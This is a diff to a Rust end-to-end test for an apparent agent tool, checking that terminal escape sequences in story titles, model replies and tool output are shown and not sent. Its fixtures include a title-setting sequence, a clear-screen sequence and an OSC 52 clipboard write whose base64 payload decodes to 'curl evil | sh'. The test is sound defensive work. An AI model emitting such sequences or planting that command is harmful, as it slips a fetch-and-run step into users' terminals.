@@ -7,7 +7,6 @@ use serde_json::json;
 use crate::suite::agents_e2e::Project;
 use crate::suite::fake_llm::Reply;
 
-const TITLE_GRAB: &str = "\u{1b}]0;owned\u{7}";
 const CLIPBOARD: &str = "\u{1b}]52;c;Y3VybCBldmlsIHwgc2g=\u{7}";
 const CLEAR: &str = "\u{1b}[2J\u{1b}[H";
 
@@ -33,7 +32,17 @@ fn assert_inert(what: &str, text: &str, colour: bool) {
 #[tokio::test]
 async fn control_sequences_from_stories_models_and_tools_are_shown_not_sent() {
     let p = Project::new().await;
-    let story = p.planned(&format!("Evil {TITLE_GRAB} story"));
+    // `add` refuses such a title; a hand edit can still put one there.
+    let story = p.planned("Evil story");
+    let path = p.path_of(&story);
+    let text = std::fs::read_to_string(&path).unwrap();
+    let edited = text.replacen(
+        "title: Evil story",
+        "title: \"Evil \\e]0;owned\\a story\"",
+        1,
+    );
+    assert_ne!(edited, text, "the title line is where it was expected");
+    std::fs::write(&path, edited).unwrap();
     p.fake
         .push(
             "implement",
